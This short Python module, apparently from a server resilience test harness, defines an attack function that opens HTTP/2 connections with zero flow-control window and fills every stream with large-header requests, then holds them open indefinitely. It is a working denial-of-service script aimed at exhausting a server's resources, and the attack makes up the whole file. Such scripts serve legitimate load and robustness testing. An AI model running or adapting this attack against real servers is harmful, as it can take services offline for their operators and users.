"""Two connections of HTTP/2 hold requests with large heads, on streams without a window."""

import time

import wire


def attack(victim):
    connections = []
    for _ in range(2 * victim.scale):
        connections.append(victim.http2(window=0))
        for _ in range(wire.STREAMS):
            connections[-1].send(connections[-1].request("/fetch/good/hit-0", [wire.BIG_HEADER], last=99_999)[1])
    time.sleep(0.5)
    victim.begun()
    while True:
        for connection in connections:
            connection.drain()
        time.sleep(0.1)
